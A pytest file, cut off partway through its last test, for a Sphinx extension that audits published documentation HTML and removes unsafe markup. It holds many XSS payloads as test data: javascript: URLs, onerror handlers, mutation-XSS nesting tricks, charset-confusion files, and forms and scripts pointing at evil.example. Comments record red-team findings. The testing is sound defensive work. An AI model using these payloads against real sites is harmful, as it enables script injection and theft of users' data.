"""The last line of defence: what the build publishes is checked, whatever wrote it.

Unit cases feed crafted HTML to the auditor; a property test (Hypothesis) composes
hostile fragments and checks the result with an independent reader (BeautifulSoup); a
real build turns the doctree checks off, so the check of published files is the only
thing between hostile content (from sphinx-design, MyST, downloads, static files) and
the reader.
"""

from __future__ import annotations

import codecs
import json
import re
import time
from collections.abc import Iterator
from pathlib import Path

import html5lib
import PIL.Image
import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from conftest import (
    SMALL_CONF,
    build_project,
    build_small_site,
    fuzz,
    parse_html,
    sphinx_build,
    warning_line,
    write_catalog,
)
from hostile_published import write_hostile_site
from sphinx_partners.safety.published import ScriptPolicy, audit_html

SAFE = ("http", "https", "mailto", "tel")
POLICY = ScriptPolicy(sources={"searchindex.js"}, inline={"document.body.dataset.theme = 1;"})
_IGNORED_IN_SCHEME = re.compile(r"[\x00-\x20\x7f-\x9f]")
URL_ATTRIBUTES = {"href", "src", "srcset", "xlink:href", "action", "formaction", "poster", "data"}


def independent_findings(text: str, inline: set[str] = POLICY.inline) -> list[str]:
    """What a browser could run in *text*, read by another HTML5 parser (html5lib, with
    scripting on as in a browser: a ``<noscript>`` is text), not by the auditor's lexbor.

    *inline*: the inline scripts the theme writes.
    """
    tree = html5lib.HTMLParser(namespaceHTMLElements=False).parse(text, scripting=True)
    found = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue  # a comment
        name = element.tag.rsplit("}", 1)[-1].lower()
        if name == "script":
            src = element.get("src")
            allowed = (
                (element.text or "").strip() in inline
                if src is None
                else POLICY.allows_source("page.html", src)
            )
            if not allowed:
                found.append(f"script {src or (element.text or '')[:60]}")
        if name in ("iframe", "object", "embed", "base", "frame", "frameset", "applet", "template"):
            found.append(name)
        if name == "meta" and element.get("http-equiv"):
            found.append("meta http-equiv")
        for qualified, value in element.attrib.items():
            attribute = qualified.rsplit("}", 1)[-1].lower()
            if attribute.startswith("on"):
                found.append(f"{name} {attribute}")
            if attribute in URL_ATTRIBUTES:
                for url in value.split(",") if "srcset" in attribute else [value]:
                    cleaned = _IGNORED_IN_SCHEME.sub("", url.strip()).lower()
                    if cleaned.startswith(("javascript:", "vbscript:")):
                        found.append(f"{name} {attribute}={url[:40]!r}")
                    if cleaned.startswith("data:") and not (
                        cleaned.startswith("data:image/") and name in ("img", "source")
                    ):
                        found.append(f"{name} {attribute}={url[:40]!r}")
    return found


@pytest.mark.parametrize(
    ("hostile", "what"),
    [
        ('<a href="javascript:alert(1)">x</a>', "javascript: URL in href"),
        ('<a href="java&#x09;script:alert(1)">x</a>', "javascript: URL in href"),
        ('<a href=" JaVaScRiPt:alert(1)">x</a>', "javascript: URL in href"),
        ('<a href="vbscript:msgbox">x</a>', "vbscript: URL in href"),
        ('<a href="data:text/html,<script>alert(1)</script>">x</a>', "data: URL in href"),
        ('<img src="x.png" onerror="alert(1)" alt="a">', "event handler attribute onerror"),
        ('<img srcset="a.png 1x, javascript:alert(1) 2x" alt="a">', "URL in srcset"),
        ('<form action="javascript:alert(1)"><button>x</button></form>', "URL in action"),
        ('<button formaction="javascript:alert(1)">x</button>', "URL in formaction"),
        ('<video poster="javascript:alert(1)"></video>', "URL in poster"),
        # (selectolax before 1.0 names the attribute href, without its prefix)
        ('<svg><a xlink:href="javascript:alert(1)">x</a></svg>', "javascript: URL in"),
        ('<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>', "SVG <animate>"),
        ("<script>alert(1)</script>", "<script>"),
        ('<script src="https://evil.example/x.js"></script>', "<script>"),
        ('<script src="_images/evil.js"></script>', "<script>"),
        ('<iframe src="https://example.org"></iframe>', "<iframe>"),
        ('<object data="x.swf"></object>', "<object>"),
        ('<embed src="x.swf">', "<embed>"),
        ('<base href="https://evil.example/">', "<base>"),
        ('<meta http-equiv="refresh" content="0; url=https://evil.example">', "http-equiv"),
        ('<div style="color:red" onmouseover="alert(1)">x</div>', "onmouseover"),
        # A page asking for a password for another site; a tab the opened site controls
        # (a red team's findings: a contributed static page).
        ('<form action="https://evil.example/s"><input type="password"></form>', "another site"),
        ('<form action="//evil.example/s"><input></form>', "form that sends to another site"),
        ('<form action=" \\\\evil.example/s"><input></form>', "form that sends to another"),
        ('<button formaction="https://evil.example/">x</button>', "another site (formaction)"),
        ('<a href="https://example.org/" target="_blank" rel="opener">x</a>', "rel=opener"),
        # A tab a browser drops ("/\t/host" is "//host"); a target by name (second round).
        ('<form action="/&#9;/evil.example/c"><input></form>', "form that sends to another"),
        ('<form action="h&#9;ttps://evil.example/c"><input></form>', "form that sends"),
        ('<a href="https://example.org/" target="w">x</a>', "a named target"),
        # Read as text by Python's own parser, as markup by a browser (found by testing
        # as an attacker: sphinx-design's octicon role writes its class unescaped).
        ('<svg><style><img src="x" onerror="alert(1)"></style></svg>', "onerror"),
        ('<math><style><img src="x" onerror="alert(1)"></style></math>', "onerror"),
        ("<svg><script>alert(1)</script></svg>", "<script>"),
        (
            '<xmp><script src="_static/furo.js"></xmp><img src=x onerror=alert(1)></script>',
            "onerror",
        ),
        ('<template shadowrootmode="open"><img src=x onerror=alert(1)></template>', "<template>"),
        (
            '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
            "noscript",
        ),
        # Where no value, text or comment holds it: an end tag's attributes, a tag's name.
        ('<noscript></p/a=\'</noscript><img/src="x"/onerror="alert(1)">\'></noscript>', "noscript"),
        ('<noscript><x</noscript ="><img src=x onerror=alert(1)>"></noscript>', "noscript"),
        # An SVG script loads its code from href, whatever its text (a text the theme
        # writes let it through: red team, fourth round).
        (
            '<svg><script href="_static/payload.js">document.body.dataset.theme = 1;</script>'
            "</svg>",
            "<script>",
        ),
        (
            '<svg><script xlink:href="https://evil.example/x.js">'
            "document.body.dataset.theme = 1;</script></svg>",
            "<script>",
        ),
        ('<script href="x.js">document.body.dataset.theme = 1;</script>', "<script>"),
        # What loads from another site, or lays itself over the page (same round).
        ('<link rel="stylesheet" href="https://evil.example/x.css">', "<link rel=stylesheet>"),
        ('<link rel="preload" as="style" href="//evil.example/x.css">', "<link rel=preload>"),
        ("<style>@import url(https://evil.example/x.css);</style>", "<style> element"),
        ('<p style="background: url(https://evil.example/t.png)">x</p>', "loads from another"),
        ("<p style=\"background: image-set('//evil.example/t.png' 1x)\">x</p>", "loads from"),
        (
            '<a href="https://evil.example/" style="position:fixed;inset:0">Sign in</a>',
            "position: fixed",
        ),
        ('<p style="position: FIXED">x</p>', "position: fixed"),
        # A link stretched over the page (sphinx-design's class outside a card), a
        # referrer policy from front matter: red team, seventh round.
        ('<a class="sd-stretched-link" href="https://evil.example/">more</a>', "sd-stretched"),
        ('<meta name="referrer" content="unsafe-url">', "<meta name=referrer>"),
        ('<article role="main"><div class="overlay">x</div></article>', "the class overlay"),
        ('<meta name="viewport" content="width=device-width, user-scalable=no">', "zooming"),
        # A page's own stylesheet, written in its text (the theme links its files in
        # the head): red team, fifth round, through an icon's classes.
        ('<link rel="stylesheet" href="_static/notes.css">', "<link rel=stylesheet> in the"),
    ],
)
def test_unsafe_markup_is_taken_out(hostile: str, what: str) -> None:
    page = f"<html><body><p>before</p>{hostile}<p>after</p></body></html>"
    fixed, findings = audit_html(page, "page.html", POLICY, SAFE)
    assert any(what in finding.what for finding in findings), findings
    assert independent_findings(fixed) == []
    text = BeautifulSoup(fixed, "html5lib").get_text()
    assert "before" in text and "after" in text


@pytest.mark.parametrize(
    "safe",
    [
        '<a href="https://example.org/?q=1&amp;r=2">x</a>',
        '<a href="mailto:someone@example.org">x</a>',
        '<a href="../other.html#anchor">x</a>',
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="a">',
        '<img src="_images/a.webp" srcset="_images/a-320.webp 320w, _images/a.webp 640w" alt="a">',
        '<script src="_static/furo.js?v=1"></script>',
        '<script src="searchindex.js"></script>',
        "<script>document.body.dataset.theme = 1;</script>",
        '<svg aria-hidden="true"><use href="#icon"></use></svg>',
        '<form action="search.html" method="get"><input name="q"></form>',
        '<a href="https://example.org/" target="_blank" rel="noopener noreferrer">x</a>',
        '<a href="other.html" target="_self">x</a>',
        '<p style="opacity: 50%; background: url(_images/a.webp)">x</p>',
        '<p style="position: sticky">x</p>',
        '<link rel="canonical" href="https://example.org/page.html">',
        '<div class="sd-card"><a class="sd-stretched-link" href="https://example.org/">x</a></div>',
        '<div class="overlay sidebar-overlay"></div>',  # the theme's, around the content
        '<meta name="viewport" content="width=device-width,initial-scale=1">',
    ],
)
def test_what_the_theme_and_content_need_is_kept(safe: str) -> None:
    page = f"<html><body>{safe}</body></html>"
    fixed, findings = audit_html(page, "page.html", POLICY, SAFE)
    assert findings == []
    assert fixed == page


@pytest.mark.parametrize(
    ("css", "kept"),
    [
        ("body { --color: #222; } @media (prefers-color-scheme: dark) { body { --c: 1 } }", True),
        ('body { background: url("_static/a.png") }', True),
        ("@import url(https://evil.example/x.css);", False),
        ("@\\69mport 'https://evil.example/x.css';", False),  # @import, to a browser
        ("@import ;", False),
        ('@font-face { font-family: x; src: url("https://evil.example/f.woff2") }', False),
        ("body { background: /* */ url( //evil.example/t.png ) }", False),
    ],
)
def test_a_stylesheet_in_the_head_loads_nothing_from_elsewhere(css: str, kept: bool) -> None:
    """The theme writes a <style> in the head; a theme word translated into markup can
    write one there too (red team, fourth round). In the body, none is kept."""
    page = f"<html><head><style>{css}</style></head><body><p>x</p></body></html>"
    fixed, findings = audit_html(page, "page.html", POLICY, SAFE)
    assert (findings == [] and fixed == page) is kept, findings
    if not kept:
        assert "evil.example" not in fixed and "<style>" not in fixed
        named = ("a stylesheet that loads from another site", "imports another (@import)")
        assert all(any(each in f.what for each in named) for f in findings), findings


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        ('<meta charset="utf-8"><p>Año</p>'.encode(), None),
        (codecs.BOM_UTF8 + b"<p>x</p>", None),
        (b'<meta http-equiv="Content-Type" content="text/html; charset=UTF8"><p>x</p>', None),
        (codecs.BOM_UTF16_LE + "<p>x</p>".encode("utf-16-le"), "UTF-16 mark"),
        (codecs.BOM_UTF16_BE + "<p>x</p>".encode("utf-16-be"), "UTF-16 mark"),
        ("<p>x</p>".encode("utf-16-le"), "zero bytes"),
        (b"<p>caf\xe9</p>", "byte 7 is not UTF-8"),
        (b'<meta charset="iso-2022-jp"><p>x</p>', "'iso-2022-jp'"),
        # The prescan of a browser finds a declaration inside a script's text, too.
        (b"<script>'<meta charset=shift_jis>'</script>", "'shift_jis'"),
        (b'<meta content="text/html; charset=windows-1252" http-equiv=content-type>', "1252"),
    ],
)
def test_a_file_of_markup_is_read_only_as_every_browser_reads_it(
    data: bytes, reason: str | None
) -> None:
    from sphinx_partners.safety.markup_encoding import NotPlainUtf8, browser_text

    if reason is None:
        assert "<p>" in browser_text(data)
        return
    with pytest.raises(NotPlainUtf8, match=re.escape(reason)):
        browser_text(data)


def test_the_theme_s_links_in_the_head_are_kept() -> None:
    page = (
        '<html><head><link rel="stylesheet" href="_static/furo.css?v=1">'
        '<link rel="icon" href="_static/favicon.svg"></head><body><p>x</p></body></html>'
    )
    assert audit_html(page, "page.html", POLICY, SAFE) == (page, [])


def test_an_unclosed_script_is_removed_to_the_end() -> None:
    """A browser runs everything after an unclosed <script> as script: none of it stays."""
    fixed, findings = audit_html("<p>before</p><script>alert(1)<p>x</p>", "page.html", POLICY, SAFE)
    assert [finding.what for finding in findings] == ["a <script> element"]
    assert BeautifulSoup(fixed, "html5lib").body.decode_contents() == "<p>before</p>"


def test_a_file_that_is_not_a_page_links_no_stylesheet() -> None:
    """A page of the site's folder without a doctype read the site's own ``.txt`` as a
    stylesheet, which no check reads as one (red team, sixth round)."""
    page = '<html><head><link rel="stylesheet" href="letter-style.txt"></head><p>x</p></html>'
    fixed, findings = audit_html(page, "_static/letter.html", None, SAFE)
    assert [finding.what for finding in findings] == [
        "a <link rel=stylesheet> in a file that is not a page"
    ]
    assert "letter-style" not in fixed


def test_a_megabyte_of_unclosed_tags_is_read_at_once() -> None:
    """``<xmp `` a million times, no ``>``: one regular expression searched the rest of
    the file from each, and took minutes (red team, sixth round)."""
    started = time.perf_counter()
    audit_html("<xmp " * 200_000, "_static/notes.html", None, SAFE)
    assert time.perf_counter() - started < 10  # 0.03 s now; over 2 minutes before


def test_a_file_that_is_not_a_page_may_hold_no_script() -> None:
    page = '<html><body><script src="_static/furo.js"></script></body></html>'
    _, findings = audit_html(page, "_downloads/x/page.html", None, SAFE)
    assert [finding.what for finding in findings] == ["a <script> element"]


@pytest.mark.parametrize(
    "src",
    [
        "_static/x/..\\evil.js",  # a browser reads "\\" as "/": _static/evil.js
        "_static/x/%2e%2e/evil.js",
        "_static/x/\t../evil.js",
        "\\\\evil.example/x.js",  # "//evil.example/x.js"
        " _static/evil.js",
    ],
)
def test_a_script_is_found_where_a_browser_loads_it(src: str) -> None:
    """The contributor's docs/_static/evil.js, reached by a path a browser resolves."""
    policy = ScriptPolicy(from_source_tree={"_static/evil.js"})
    assert not policy.allows_source("page.html", src)
    assert policy.allows_source("page.html", "_static/furo.js")


def test_root_relative_scripts_only_from_the_site_s_own_path() -> None:
    policy = ScriptPolicy(site_paths=("/partnerships/", "/"))
    assert policy.allows_source("404.html", "/partnerships/_static/furo.js")
    assert not policy.allows_source("404.html", "/other-project/_static/evil.js")
    only_site = ScriptPolicy(site_paths=("/partnerships/",))
    assert not only_site.allows_source("404.html", "/other-project/_static/evil.js")


FRAGMENTS = [
    "<p>text</p>",
    '<a href="https://example.org">ok</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<img src="a.png" onerror=alert(1) alt=a>',
    '<img src="a.png" alt="a" ONLOAD="alert(1)">',
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script>",
    "</script>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "</iframe>",
    "<object>",
    "<embed src=x>",
    '<base href="//evil.example">',
    '<meta http-equiv="refresh" content="0">',
    '<svg><set attributeName="onclick" to="alert(1)"/></svg>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<img src="data:image/svg+xml,<svg/>" alt="x">',
    "<!-- <script>alert(1)</script> -->",
    "<p title='<script>'>quoted</p>",
    "&lt;script&gt;",
    "<",
    ">",
    '"',
    "<div",
    " onclick=alert(1)",
    "<a href=",
    "javascript:alert(1)",
    "<style>p{}</style>",
    "<textarea><script>alert(1)</script></textarea>",
    "<svg>",
    "</svg>",
    "<math>",
    "<style>",
    "</style>",
    "<xmp>",
    "<noscript>",
    "</noscript>",
    '<p title="</noscript><img src=x onerror=alert(1)>">',
    "<template>",
    '<script src="_static/furo.js">',
    "</p/a='</noscript><img/src=x/onerror=alert(1)>'>",
    '<x</noscript ="><img src=x onerror=alert(1)>">',
    '<script src="_static/x/..\\evil.js"></script>',
]


@pytest.mark.parametrize(
    "body",
    [
        # Found by the fuzz test below: lexbor (and today's browsers) end the SVG at
        # </p>, so the <textarea> holds text; html5lib (and older readers) keep it in
        # the SVG, where its <script> is one.
        "<svg></p/a='</noscript><img/src=x/onerror=alert(1)>'><textarea><script>alert(1)"
        "</script></textarea>",
        "<math></p><title><img src=x onerror=alert(1)></title></math>",
        "<svg></p><style><a href='javascript:alert(1)'>x</a></style>",
        "<svg></p><xmp><a href='javascript:alert(1)'>x</a>",  # never closed
    ],
)
def test_a_tag_inside_a_text_only_element_is_written_as_text(body: str) -> None:
    page = f"<html><head></head><body>{body}</body></html>"
    fixed, findings = audit_html(page, "page.html", POLICY, SAFE)
    assert independent_findings(fixed) == [], fixed
    # (A <style> in a page's body is taken out whole, whatever it holds.)
    named = ("written inside", "<style> element in the page")
    assert [finding.what for finding in findings if any(each in finding.what for each in named)]
    again, findings = audit_html(fixed, "page.html", POLICY, SAFE)
    assert findings == [] and again == fixed


@fuzz(300)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=30).map("".join))
def test_no_composed_page_stays_unsafe(body: str) -> None:
    """Whatever is composed, the published result is safe to an independent reader."""
    page = f"<html><head></head><body>{body}</body></html>"
    fixed, _ = audit_html(page, "page.html", POLICY, SAFE)
    assert independent_findings(fixed) == []
    again, findings = audit_html(fixed, "page.html", POLICY, SAFE)
    assert findings == [] and again == fixed


@pytest.fixture(scope="module")
def published_site(
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[tuple[Path, list[str]]]:
    srcdir = tmp_path_factory.mktemp("published") / "src"
    write_hostile_site(srcdir)
    outdir, warnings, _ = build_project(srcdir)
    yield outdir, warnings


def theme_inline_scripts(outdir: Path) -> set[str]:
    """The basic theme's inline scripts, as a page no pull request writes has them."""
    soup = parse_html(outdir / "genindex.html")
    return {(script.string or "").strip() for script in soup.find_all("script") if script.string}


def test_injections_by_other_roads_are_caught_at_the_output(published_site) -> None:
    outdir, warnings = published_site
    soup = parse_html(outdir / "hostile.html")
    text = (outdir / "hostile.html").read_text(encoding="utf-8")
    assert independent_findings(text, theme_inline_scripts(outdir)) == []
    assert "A button" in soup.get_text() and "A badge" in soup.get_text()
    assert "An icon" in soup.get_text() and "alert(4)" not in text
    published = [w for w in warnings if w.endswith("[partners.published]")]
    on_the_page = [w for w in published if "hostile.md:" in w and "in hostile.html" in w]
    assert any("javascript: URL in href" in w for w in on_the_page), warnings
    # Located at the line that wrote it (the button at 3, the badge at 7).
    links = [w for w in on_the_page if "javascript: URL" in w]
    lines = {int(w.split("hostile.md:")[1].split(":")[0]) for w in links}
    assert lines & {3, 7}, on_the_page


def test_scripted_files_are_not_published(published_site) -> None:
    outdir, warnings = published_site
    downloads = {path.name for path in (outdir / "_downloads").rglob("*") if path.is_file()}
    # An HTML download would open as a page of the site: none is published.
    assert "evil.html" not in downloads and "plain.html" not in downloads
    assert not (outdir / "_static" / "evil.svg").exists()
    assert not (outdir / "_static" / "evil.html").exists()
    assert (outdir / "_static" / "plain.svg").exists()
    for path in outdir.rglob("*.svg"):
        assert b"<script" not in path.read_bytes(), path
    published = [w for w in warnings if w.endswith("[partners.published]")]
    assert any("evil.html" in w and "not published" in w for w in published), published
    assert any("plain.html" in w and "offered as a download" in w for w in published)
    assert any("hostile.md:" in w and "_downloads" in w for w in published), published
    # An XML document with XHTML in it runs its script when opened; a sitemap is inert.
    xml_files = {path.name for path in outdir.rglob("*.xml")}
    assert "evil.xml" not in xml_files and "plain.xml" in xml_files
    assert any("evil.xml" in w and "XHTML markup" in w for w in published), published
    # An SVG saved as UTF-16 is read as the browser reads it, not searched as bytes.
    assert not list(outdir.rglob("utf16*.svg"))
    assert any("stylesheet" in w for w in warnings), warnings


def test_files_published_by_other_roads_are_checked_too(published_site) -> None:
    outdir, warnings = published_site
    static = outdir / "_static"
    gone = ["pic.svg", "frame.svg", "page.xhtml", "page.xhtm", "process.xpdl", "sniffed.unknown"]
    gone += ["broken.xpdl", "lnk/evil.svg", "entity.xpdl", "utf16.html", "iso2022.html"]
    gone += ["imported.svg", "painted.svg", "notes.css", "overlay.css", "deeq.html"]
    gone += ["letter.html"]
    assert [name for name in gone if (static / name).exists()] == []
    # Inert as a server sends them (a schema, a text file): published.
    assert (static / "plain.rng").exists() and (static / "notes.txt").exists()
    # A template rendered over the theme's script is content: no page loads it.
    assert (static / "doctools.js").read_text(encoding="utf-8") == "alert('template');"
    for page in outdir.glob("*.html"):
        assert "doctools.js" not in page.read_text(encoding="utf-8"), page
    published = [w for w in warnings if w.endswith("[partners.published]")]
    text = " ".join(published)
    assert "XHTML markup (<frame>)" in text
    # Markup a browser may read as a page or as XML, and not well-formed XML: refused (a
    # browser knows &nbsp; after an XHTML doctype, where the check's parser stops).
    assert "sniffed.unknown" in text and "entity.xpdl" in text
    assert "that is not well-formed XML (undefined entity &nbsp;" in text
    # Decoded otherwise by a browser than as UTF-8 (red team, fourth round).
    assert "starts with a UTF-16 mark" in text
    assert "declares the character set 'iso-2022-jp'" in text
    assert (static / "utf8.html").exists()
    # An SVG's CSS, read by a CSS tokenizer: an escaped @import, a paint from elsewhere.
    assert "imports another stylesheet" in text and "https://evil.example/p.svg#g" in text
    assert (static / "gradient.svg").exists() and (static / "plain.css").exists()
    assert "imports another (@import) ('https://evil.example/x.css')" in text
    assert "a stylesheet that lays something over the page (position: fixed)" in text
    # A file of the site's folder links no stylesheet; nested files are read to the
    # end, and the files after them are checked.
    assert "a <link rel=stylesheet> in a file that is not a page in _static/letter.html" in text
    assert (static / "deep.css").exists() and (static / "deep2.svg").exists()
    # Named at the file a contributor added, not at its copy in the output.
    frame = next(w for w in published if "frame.svg" in w)
    assert frame.startswith(str(outdir.parents[1] / "_static" / "frame.svg") + ":"), frame
    # The replaced theme script: one message for every page that loaded it.
    scripts = [w for w in published if "doctools.js" in w]
    assert len(scripts) == 1 and "other pages" in scripts[0], scripts


def test_every_page_of_the_site_is_clean(published_site) -> None:
    outdir, _ = published_site
    for page in outdir.rglob("*.html"):
        if "_downloads" in page.parts:
            continue
        text = page.read_text(encoding="utf-8")
        assert independent_findings(text, theme_inline_scripts(outdir)) == [], page


def test_an_incremental_build_checks_again_only_what_changed(tmp_path) -> None:
    """Files found clean are remembered by their bytes; a changed file is read again,
    so an unsafe change is still caught on an incremental build."""
    from conftest import build_small_site

    pages = {"index.md": "# Home\n\n```{toctree}\nother\n```\n", "other.md": "# Other\n"}
    conf = "partners_harden_site = True\n"
    outdir, warnings, _ = build_small_site(tmp_path, pages, conf)
    assert warnings == []
    (memory,) = tmp_path.rglob("partners-published-clean.json")
    assert memory.read_bytes().count(b",") >= 1  # the pages, remembered as clean

    # A page changed into something unsafe is checked again and fixed.
    (tmp_path / "other.md").write_text(
        '---\nmyst:\n  html_meta:\n    "http-equiv=refresh": "0; url=https://evil.example"\n'
        "---\n\n# Other\n",
        encoding="utf-8",
    )
    outdir, warnings, _ = build_small_site(tmp_path, {}, conf)
    assert any("[partners." in line for line in warnings), warnings
    assert 'http-equiv="refresh"' not in (outdir / "other.html").read_text(encoding="utf-8")


def test_a_list_of_clean_files_the_build_did_not_sign_is_not_trusted(
    tmp_path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A red team's finding: the list lives in the doctree folder, which a pull request
    can commit (git add -f), and its keys can be worked out offline: a list naming a
    script as clean let it be published unchecked."""
    from conftest import build_small_site
    from sphinx_partners.safety import published

    keys: list[str] = []
    original = published._CleanMemory.key

    def noting(self, *args):
        keys.append(original(self, *args))
        return keys[-1]

    monkeypatch.setattr(published._CleanMemory, "key", noting)
    (tmp_path / "_static").mkdir()
    (tmp_path / "_static" / "evil.html").write_text("<script>alert(1)</script>\n")
    conf = 'partners_harden_site = True\nhtml_static_path = ["_static"]\n'
    pages = {"index.md": "# Home\n"}
    outdir, warnings, _ = build_small_site(tmp_path, pages, conf)
    assert any("[partners.published]" in line for line in warnings), warnings

    (memory,) = tmp_path.rglob("partners-published-clean.json")
    memory.write_text(json.dumps(keys), encoding="utf-8")  # every file "clean", unsigned
    for saved in tmp_path.rglob("environment.pickle"):
        saved.unlink()  # everything written again, as with -E (Sphinx 8.1 copies nothing else)
    outdir, warnings, _ = build_small_site(tmp_path, {}, conf)
    assert any("[partners.published]" in line for line in warnings), warnings
    evil = outdir / "_static" / "evil.html"
    assert not evil.exists() or "<script>" not in evil.read_text(encoding="utf-8")


# -- scripts and links written by Sphinx from what a pull request can add ------------------

HARDENED = "partners_harden_site = True\n"
CATALOG_CONF = HARDENED + (
    'language = "es"\n'
    # The check of catalogs would leave a translation with markup out: the published
    # files' check is tested alone here.
    "partners_safe_links = False\n"
    "from pathlib import Path\n"
    'locale_dirs = [str(Path(__file__).parent / "locales")]\n'
)


def test_a_catalog_folder_s_script_is_not_published(tmp_path: Path) -> None:
    """Sphinx publishes a catalog folder's ``sphinx.js`` as a script of every page; a
    catalog is content, so only Sphinx's own file for the language is published."""
    catalog = tmp_path / "src" / "locales" / "es" / "LC_MESSAGES"
    catalog.mkdir(parents=True)
    (catalog / "sphinx.js").write_text('document.title = "XSS";', encoding="utf-8")
    outdir, warnings, _ = build_small_site(
        tmp_path / "src", {"index.md": "# Inicio\n\nTexto.\n"}, CATALOG_CONF
    )
    assert not (outdir / "_static" / "translations.js").exists()
    assert "translations.js" not in (outdir / "index.html").read_text(encoding="utf-8")
    assert any("a script from a catalog folder" in w for w in warnings), warnings


def test_sphinx_s_own_translations_script_stays(tmp_path: Path) -> None:
    outdir, warnings, _ = build_small_site(
        tmp_path / "src", {"index.md": "# Inicio\n\nTexto.\n"}, CATALOG_CONF
    )
    assert (outdir / "_static" / "translations.js").is_file()
    assert "_static/translations.js" in (outdir / "index.html").read_text(encoding="utf-8")
    assert not [w for w in warnings if "partners.published" in w], warnings


def test_a_page_named_like_a_link_does_not_run_from_the_search(tmp_path: Path) -> None:
    """The search page writes each result's link from the index (name + ``.html``),
    where the check of pages never looks."""
    name = "javascript:void(document.title='XSS')"
    outdir, warnings, _ = build_small_site(
        tmp_path / "src",
        {
            "index.md": "# Home\n\n```{toctree}\n:glob:\n*\n```\n",
            f"{name}.md": "---\norphan: true\n---\n# Zxqv\n\nThe word zxqv.\n",
        },
        HARDENED,
    )
    index = (outdir / "searchindex.js").read_text(encoding="utf-8")
    docnames = json.loads(index.removeprefix("Search.setIndex(").removesuffix(")"))["docnames"]
    assert f"./{name}" in docnames and name not in docnames
    assert any("starts like a javascript: link" in w for w in warnings), warnings


def test_a_theme_word_translated_into_markup_is_taken_out(tmp_path: Path) -> None:
    """The theme's own words come from Sphinx's catalog, which a site may translate in
    its catalog folder (``sphinx.po``); the templates write them unescaped."""
    write_catalog(
        tmp_path / "src",
        'msgid "Navigation"\nmsgstr "<svg><style><img src=x onerror=alert(5)></style></svg>"\n',
        "sphinx",
    )
    outdir, warnings, _ = build_small_site(
        tmp_path / "src", {"index.md": "# Inicio\n\nTexto.\n"}, CATALOG_CONF
    )
    text = (outdir / "index.html").read_text(encoding="utf-8")
    assert "<svg>" in text  # the translation is used, and read as a browser does:
    assert "alert(5)" not in text and "<style>" not in text.split("</head>", 1)[1]
    assert independent_findings(text, theme_inline_scripts(outdir)) == []
    published = [w for w in warnings if "partners.published" in w]
    assert any("<style> element in the page" in w for w in published), warnings


def test_pages_written_before_the_build_stopped_are_checked(tmp_path: Path) -> None:
    """A build that stops after writing its pages (a catalog's bad placeholder does it
    in Sphinx's index) leaves them in the output, where the preview serves them."""
    conf = (
        HARDENED
        + 'extensions.append("sphinx_design")\n'
        + "def _stop(app):\n    raise RuntimeError('stopped after writing')\n"
        + "def setup(app):\n    app.connect('html-collect-pages', _stop)\n"
    )
    srcdir = tmp_path / "src"
    icon = '{octicon}`check;1em;x"><style><img/src="x"/onerror="alert(1)"></style>`'
    page = f"# Home\n\nAn icon {icon}\n"
    with pytest.raises(Exception, match="stopped after writing"):
        build_small_site(srcdir, {"index.md": page}, conf)
    text = (srcdir / "_build" / "html" / "index.html").read_text(encoding="utf-8")
    assert "An icon" in text and "alert(1)" not in text


def test_a_link_the_parser_reopens_is_cleaned_without_a_crash() -> None:
    """A link opened inside another is cloned by the HTML parser with the same
    attributes, which selectolax before 1.0 shares between the two: the second removal
    of the handler found it gone (KeyError; found by the property test on the lowest
    versions)."""
    body = '<a href=<img src="a.png" onerror=alert(1) alt=a><noscript><a href="https://example.org">ok</a>'
    fixed, findings = audit_html(f"<html><body>{body}</body></html>", "page.html", POLICY, SAFE)
    assert findings and independent_findings(fixed) == []


# -- found by the sixth round of testing as an attacker ----------------------------------

ICON = '{octicon}`check;1em;x"><img src=x onerror=alert(6)>`'


def test_a_page_named_like_sphinx_s_own_folder_is_checked(tmp_path: Path) -> None:
    """The check passed over ``.doctrees`` by the start of a name, so a page named
    ``.doctrees-x.md`` was published as written: a folder is matched by its name."""
    conf = HARDENED + 'extensions.append("sphinx_design")\n'
    page = f"---\norphan: true\n---\n# Icons\n\nAn icon {ICON}\n"
    outdir, warnings, _ = build_small_site(
        tmp_path / "src", {"index.md": "# Home\n\nText.\n", ".doctrees-x.md": page}, conf
    )
    text = (outdir / ".doctrees-x.html").read_text(encoding="utf-8")
    assert "An icon" in text and "alert(6)" not in text
    assert independent_findings(text, theme_inline_scripts(outdir)) == []
    assert any(".doctrees-x.md:" in w and "onerror" in w for w in warnings), warnings


@pytest.mark.parametrize("encoding", ["Shift_JIS", "GBK", "Big5", "no-such-encoding"])
def test_xml_in_an_encoding_the_check_cannot_read_is_not_published(
    tmp_path: Path, encoding: str
) -> None:
    """Python's XML parser reads no multi-byte encoding but UTF-8 and UTF-16, and a
    browser reads them all: such a file was taken for broken XML, then read as HTML,
    where a prefixed ``<h:script>`` is an unknown element (Chromium ran it)."""
    srcdir = tmp_path / "src"
    (srcdir / "_static").mkdir(parents=True)
    body = (
        f'<?xml version="1.0" encoding="{encoding}"?>\n'
        '<r xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(7)</h:script></r>\n'
    )
    for name in ("data.xpdl", "data.xml", "picture.svg"):
        (srcdir / "_static" / name).write_bytes(body.encode("ascii"))
    outdir, warnings, _ = build_small_site(
        srcdir, {"index.md": "# Home\n\nText.\n"}, HARDENED + 'html_static_path = ["_static"]\n'
    )
    for name in ("data.xpdl", "data.xml", "picture.svg"):
        assert not (outdir / "_static" / name).exists(), name
        named = [w for w in warnings if name in w and "partners.published" in w]
        assert named and "an encoding this check cannot read" in named[0], warnings


# -- found by the seventh round ------------------------------------------------------------


def test_a_page_in_a_folder_named_like_sphinx_s_own_is_checked(tmp_path: Path) -> None:
    """``docs/.doctrees/x.md`` is written to ``.doctrees/x.html``, in the folder where
    ``sphinx-build`` keeps its doctrees by default: the check passed over that folder."""
    srcdir = tmp_path / "src"
    (srcdir / ".doctrees").mkdir(parents=True)
